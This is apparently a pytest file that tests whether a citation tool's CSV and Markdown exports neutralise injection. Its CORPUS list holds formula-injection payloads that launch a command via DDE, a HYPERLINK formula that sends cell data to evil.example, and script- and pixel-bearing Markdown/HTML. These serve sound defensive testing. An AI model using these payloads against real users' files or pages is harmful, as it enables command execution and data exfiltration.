"""Exports that other programs open: no cell is a formula, no text is markup (S23)."""

from __future__ import annotations

import csv
from dataclasses import replace
from io import StringIO

import pytest
from markdown_it import MarkdownIt

from quoth.core.plan import make_plan
from quoth.core.types import (
    Answer,
    Citation,
    Counts,
    Pages,
    Query,
    Sentence,
)
from quoth.history.export import exported
from quoth.pipeline.record import Record
from quoth.pipeline.retrieve import Request

CORPUS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "![pixel](http://evil.example/p.png)",
    "[click](javascript:alert(1)) <img src=x onerror=alert(1)>",
    'one","=two\n=three\r\n# Heading\n| a | b |\n\nwww.evil.example',
)


def _record(text: str) -> Record:
    sentence = Sentence(0, len(text), (1,), "supported")
    citation = Citation(
        id="c1",
        number=1,
        document_id="d1",
        document_name=text,
        chunk_id="k1",
        section_heading=text,
        locator=Pages(1, 1, "1", "1"),
        page="1",
        page_number=1,
        snippet=text,
        snippet_start=0,
        snippet_end=len(text),
        link=None,
        relevance_score=1.0,
        support="supported",
        support_score=1.0,
        retrieval_method="hybrid",
        created_at="2026-11-22T00:00:00+00:00",
    )
    answer = Answer(
        query_id="q_1",
        query=Query(text, text, "en"),
        text=text,
        sentences=(sentence,),
        citations=(citation,),
        closest=(),
        status="answered",
        grounded=True,
        degraded=(),
        warnings=(text,),
        counts=Counts(),
        used_chunks=("k1",),
        timings_ms={},
        profile="default",
        index_version="t:1",
    )
    return Record(Request(text), make_plan("default"), answer)


@pytest.mark.parametrize("text", CORPUS)
def test_no_cell_of_a_table_is_a_formula(text: str) -> None:
    rows = list(csv.reader(StringIO(exported(_record(text), "csv"))))
    cells = [cell for row in rows for cell in row]
    assert len({len(row) for row in rows}) == 1
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))] == []


@pytest.mark.parametrize("text", CORPUS)
def test_no_text_is_markup_of_a_page(text: str) -> None:
    written = exported(_record(text), "md")
    tokens = [
        child
        for token in MarkdownIt("commonmark").enable(["table", "linkify"]).parse(written)
        for child in (token, *(token.children or ()))
    ]
    kinds = {each.type for each in tokens}
    assert not kinds & {"image", "html_inline", "html_block", "table_open", "link_open", "fence"}
    headings = [each for each in tokens if each.type == "heading_open"]
    assert [each.tag for each in headings] == ["h1", "h2"], "the question's, and that of sources"


def test_a_text_that_only_looks_harmless_stays_as_it_is() -> None:
    record = _record("Water boils at 100 degrees.")
    assert "Water boils at 100 degrees." in exported(record, "csv")
    other = replace(record, keeping="full")
    assert "Water boils at 100 degrees" in exported(other, "md")
